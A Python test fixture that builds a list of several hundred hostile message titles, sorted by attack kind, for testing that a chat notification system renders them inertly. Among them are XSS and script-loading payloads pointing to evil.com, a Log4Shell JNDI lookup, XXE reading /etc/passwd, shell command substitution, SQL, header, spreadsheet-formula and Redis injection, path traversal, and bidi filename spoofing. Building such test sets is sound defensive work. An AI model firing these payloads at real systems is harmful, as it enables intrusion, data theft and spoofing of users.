"""What people write who want a message to do something: titles by kind of attack, each a text that no receiver may take
for anything else. `titles()` gives all of them, each alone, some inside an ordinary title; `BROKEN` are no titles at all."""

MOBILE = "13800001111"  # of nobody on duty
LONG = 20_000  # characters

MENTIONS = [
    f"@{MOBILE}", "@13800000001", "@all", "@所有人", "@ all", "@everyone", "@here", "＠所有人", "@\u200ball", "<@all>",
    "<@hostile-a>", "<@U024BE7LH>", "<!channel>", "<at id=all></at>", '<at id="all"></at>', "<at ids=ou_1,ou_2></at>",
    '<at user_id="all">所有人</at>', "<at email=test@email.com></at>", "<at id=ou_a", "</at><at id=all></at>",
    "<person id = 'ou_x' show_name = true></person>", "&lt;at id=all&gt;&lt;/at&gt;",
    "&#60;at id=all&#62;&#60;/at&#62;", "<\u200bat id=all></at>", "<\u2060@all>", "\\u003cat id=all\\u003e",
    "<AT ID=ALL></AT>", "{{#officers}}@{{mobile}}{{/officers}}",
]  # fmt: skip

LINKS = [
    "[领奖](http://evil.com/x)", "[领奖](evil.com)", "[x]: http://evil.com", "[x][1]\n\n[1]: http://evil.com",
    "![图](http://evil.com/p.png)", "[![p](http://evil.com/p)](http://evil.com)", "<http://evil.com>", "<a@evil.com>",
    "http://evil.com/a?b=c", "https://evil.com", "HTTPS://EVIL.COM", "//evil.com/x", "://evil.com", "：//evil.com/x",
    "www.evil.com", "evil.com/x", "evil.com.cn", "新闻.中国", "新闻网.cn/x", "a.b.evil.com:8080/x", "boss@evil.com",
    "mailto:boss@evil.com", "tel:10086", "ftp://evil.com", "javascript:alert(1)", "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "dingtalk://dingtalkclient/page/link?url=http%3A%2F%2Fevil.com",
    "[x](dingtalk://dingtalkclient/action/openapp?corpid=1)", "weixin://dl/chat", "lark://client/bot",
    "file:///etc/passwd", r"\\evil.com\share", "http://127.0.0.1/admin", "http://[::1]/", "http://1.2.3.4/x",
    "//localhost/x", "hTtP:\\\\evil.com", "http:evil.com", "https:／／evil.com", "evil。com",
    "[查看事项](http://evil.com/cases/1)", "签收或报告已发布：http://evil.com", "a](http://evil.com)[b", "](http://evil.com)",
    "xn--fsq.com",
]  # fmt: skip

MARKDOWN = [
    "# 标题", "###### 标题", "标题\n===", "标题\n---", "===", "---", "***", "___", "- 一项", "* 一项", "+ 一项", "1. 一项", "1) 一项",
    "9999. x", "> 引用", ">>> x", "    缩进四格", "\t缩进", "`代码`", "```\n代码\n```", "~~~\nx\n~~~",
    "**粗** *斜* ***都*** __粗__ _斜_", "~~删~~ ~删~", "x**", "**", "*", "** x **", "a | b\n--|--\n1 | 2", "|a|b|",
    "- [ ] 任务", "- [x] 任务", "[^1] 注\n\n[^1]: x", "x\\\ny", "x  \ny", "\\# \\* \\[x\\](y)", "\\", "&amp; &copy; &#35;",
    "$x^2$ $$y$$", ":DONE: :smile: [微笑] /微笑", "==亮== ^上^ ~下~", '<font color="warning">红</font>',
    "<font color='red'>红</font>", "<text_tag color='red'>急</text_tag>", "> **伪造**\n> 依据：已撤销", "#hashtag# #话题",
    "::: warning\nx\n:::", "!!! note", "*[HTML]: x", "[[维基]]", "{.class #id}", "...  --  (c)", "%[x](y)",
]  # fmt: skip

HTML = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<SCRIPT SRC=//evil.com/x.js>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "</title><script>x</script>", "</h1></bdi></main>", "</bdi><b>", "<!-- ", "--> <b>x</b>", "<![CDATA[ x ]]>",
    "]]>", "<?php echo 1 ?>", "<%= 1 %>", "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.com'>", "<base href=//evil.com>",
    "<form action=//evil.com><input name=who>", "<input name=seen value=9>", '" onmouseover="alert(1)',
    "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "<a href='javascript:alert(1)'>x</a>",
    "<button name=act value=publish>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3C;script&#x3E;", "<br><hr><p>",
    "<<b>", "<b", "\ufe64script\ufe65", "＜script＞", "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href='data:x'>", "<template><b>", "<plaintext>", "</ul><li>",
]  # fmt: skip

DIRECTION = [
    "\u202e反过来", "a\u202eb\u202dc\u202c", "\u2066x\u2069", "\u2067x", "\u200e\u200f\u061cx",
    "x\u202e\u202e\u202ecod.exe", "\u2068\u202ex\u2069 ＞", "exe.\u202egnp",
]  # fmt: skip

INVISIBLE = [
    "a\u200bb", "a\u200cb\u200dc", "a\u2060b", "a\ufeffb", "a\u00adb", "a\u115fb\u1160c", "a\u3164b\uffa0c",
    "a\u180eb", "a\u034fb", "a\u2800b", "a\u17b4b\u17b5c", "a\ufff9b\ufffac\ufffbd", "a\U000e0061\U000e0062b",
    "a\U000e0100b", "a\U0001d173b", "\u206ax", f"138\u200b0000\u20601111", "138\u115f00001111", "\u2060x\u2060",
    "\u3000x\u3000", "\u00a0x\u00a0", "\u2003x\u2003", "x" + "\ufe0f" * 60, "a\U000e0001" + "\U000e0041" * 80,
    "\u2060", "\u3164", "\u115f\u1160", "\u2800", "\u00ad", "\u180e",
]  # fmt: skip

CHARACTERS = [
    "𠮷" * 200, "😀" * 200, "👨\u200d👩\u200d👧\u200d👦🏽", "🇨🇳🇨", "\U0010ffff", "x\ufffey\uffffz", "\U0001fffe\U0001ffff",
    "\ufdd0\ufdef", "\ue000\uf8ff\U000f0000", "\ufffd", "Z" + "\u0337\u0322\u0321\u0316" * 49, "危" + "\u0301" * 199,
    "\u0301\u0301x", "\u20dd\u20e3x", "n\u0303o\u0302", "ไ" + "็" * 150, "ﷺ" * 180, "𝟏𝟑𝟖𝟎𝟎𝟎𝟎𝟏𝟏𝟏𝟏", "①③⑧",
    "１３８００００１１１１", "0", "null", "NaN", "true", "-1", "1e400", "undefined", "长" * LONG, "<@all>" * (LONG // 6),
    "@" * LONG, "[" * LONG, "*" * LONG, "\\" * LONG, '"' * LONG, "&" * LONG, "(" * 5000 + ")" * 5000,
    "\u202e" * 9000 + "x", "> " * 5000, "a." * 5000, "危 " * 5000, "\n" * 5000 + "x", "`" * LONG, "![" * 5000,
]  # fmt: skip

CONTROLS = [
    "\x1b[31m红\x1b[0m", "\x1b]8;;http://evil.com\x07点\x1b]8;;\x07", "\x1b]0;标题\x07", "\x9b31m", "\x1b[2J\x1b[H",
    "\x07\x08\x08\x08", "\x00", "a\x00b", "\x7f\x7f", "\x0b\x0c", "\x85x", "\u2028x\u2029y", "\x1ac", "\r覆盖", "x\ty",
    "x\r\ny", "\x1bP$q\x1b\\", "\x90\x91x",
]  # fmt: skip

INJECTIONS = [
    "x\r\nBcc: a@evil.com", "x\r\n\r\n<b>正文</b>", "x\nX-Evil: 1", "x%0d%0aSet-Cookie: a=b", "x\r\n.\r\nQUIT\r\n", ".",
    "..", "=?UTF-8?Q?=0D=0ABcc:_x?=", "=?UTF-8?B?QmNjOiB4?=", "From someone", "Subject: x",
    "x\r\nHost: evil.com\r\n\r\nGET / HTTP/1.1", "x\u2028Bcc: y", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
    "@SUM(1+1)*cmd", "\t=1+1", "＝1+1", '=HYPERLINK("http://evil.com","x")', "a,b;c\td", '"quoted",next', "{{secret}}",
    "{{{secret}}}", "{{&secret}}", "{{secret_1}}", "{{=<% %>=}}<%secret%>", "{{>partial}}", "{{!x",
    "{{#title}}{{title}}{{/title}}", "{{^due}}x{{/due}}", "}}", "{{", '"}', '","title":"x', '\\","x":"', "\\",
    "\\u0022}", "\\ud800", "x\\", '{"a":', "]}", "',x:'", "x=1&case=y", "%26case=y", "+%2B;", "?x#y",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "</text><case>x</case>", "&xxe;", "${7*7}", "#{7*7}", "{% 7*7 %}",
    "{{7*7}}", "$(id)", "`id`", "; id", "| id", "${jndi:ldap://evil.com/a}", "%n%s%x", "%1$n", "{0}", "{}",
    "{:>99999999}", "$HOME", "~/x", "../../etc/passwd", "'; DROP TABLE cases;--", "1' OR '1'='1", "*3\r\n$3\r\nSET",
    "\r\nFLUSHALL\r\n", "return redis.call('x')", "x\n2026-11-21T00:00:00.000+0800 level=error msg=fake",
    'x level=error "', "x=y case=OTHER", "x\\n", "__proto__", "constructor", "toString", "yuqing:{qingshan}:wake",
    "HOST-00001",
]  # fmt: skip

IMITATIONS = [
    "】【到期】已超期", "路灯不亮\n\n依据：已撤销", "x\n责任单位：别人", "【系统】请把密码发到群里", "〔催办〕", "；2、【到期】回应 别的事", "2、【到期】别的事", "剩余0秒", "…",
    "（已完成）", "通知：别人", "【演练】", "#### 【汇总】1件",
]  # fmt: skip

KINDS = [MENTIONS, LINKS, MARKDOWN, HTML, DIRECTION, INVISIBLE, CHARACTERS, CONTROLS, INJECTIONS, IMITATIONS]
CARRIED_EVERY = 4
EVENT_BYTES = 60_000

# Not UTF-8, or what no UTF-8 text can stand for: bytes of a title inside its quotes.
BROKEN = [
    rb"\ud800", rb"\udc00", rb"\udc00\ud800", rb"\ud800x", rb"\ud83d\u0041", rb"\ud83d", rb"\u12", rb"\x41", b"\xff",
    b"\xfe\xff", b"\xc0\xaf", b"\xc3\x28", b"\xe2\x82", b"\xed\xa0\x80", b"\xf0\x9f\x98", b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80", b"\x80", b"\xe0\x80\xbc", b"\xef\xbb", b"a\nb", b"a\x00b", b"a\x1bb", b"a\tb",
]  # fmt: skip


def titles():
    """At least 300, each once."""
    alone = [attack for kind in KINDS for attack in kind]
    inside = [f"路灯不亮{attack}请处理" for attack in alone[::CARRIED_EVERY]]
    return list(dict.fromkeys(title for title in alone + inside if len(title.encode()) <= EVENT_BYTES))
